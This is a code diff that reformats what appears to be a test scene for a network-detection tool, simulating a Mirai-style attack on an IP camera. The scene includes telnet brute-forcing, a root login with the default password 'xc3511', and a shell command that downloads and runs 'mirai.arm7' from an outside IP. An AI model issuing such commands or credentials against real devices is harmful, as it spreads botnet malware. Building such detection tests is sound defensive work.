@@ -4,7 +4,17 @@ from __future__ import annotations
 
 from sentinel.demo.cast import CAMERA
 from tests.craft.plant import (
-    COLLEAGUE, CONTROL, MINUTE, OUTSIDE, SECOND, Actor, Plant, Scene, sweep, telnet, web,
+    COLLEAGUE,
+    CONTROL,
+    MINUTE,
+    OUTSIDE,
+    SECOND,
+    Actor,
+    Plant,
+    Scene,
+    sweep,
+    telnet,
+    web,
 )  # fmt: skip
 
 OTHERS = tuple(Actor(f"camera-{n}", f"10.20.3.{n}", f"44:19:b6:12:9c:{n}") for n in (51, 52, 53, 54))
@@ -22,10 +32,14 @@ def play(wire: Plant) -> None:
         telnet(wire, at + n * 3 * SECOND, OUTSIDE, CAMERA, user, password, right=False)
     at += 30 * SECOND
     shell = telnet(wire, at, OUTSIDE, CAMERA, "root", "xc3511", right=True)
-    shell.client(b"enable\r\n").server(b"# ").client(b"/bin/busybox ECCHI\r\n").server(b"ECCHI: applet not found\r\n# ")
-    shell.client(b"wget http://185.220.101.47/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7\r\n").server(b"# ")
-    web(wire, shell.now + SECOND, CAMERA, CONTROL, "/bins/mirai.arm7", agent="Wget", body=b"\x7fELF" + bytes(1200),
-        kind="application/octet-stream")  # fmt: skip
+    shell.client(b"enable\r\n").server(b"# ").client(b"/bin/busybox ECCHI\r\n").server(
+        b"ECCHI: applet not found\r\n# "
+    )
+    shell.client(
+        b"wget http://185.220.101.47/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7\r\n"
+    ).server(b"# ")
+    web(wire, shell.now + SECOND, CAMERA, CONTROL, "/bins/mirai.arm7", agent="Wget",
+        body=b"\x7fELF" + bytes(1200), kind="application/octet-stream")  # fmt: skip
     orders = wire.tcp(shell.now + 10 * SECOND, CAMERA, CONTROL, 23_231)
     for n in range(10):
         orders.wait(at + (30 + n * 60) * SECOND)
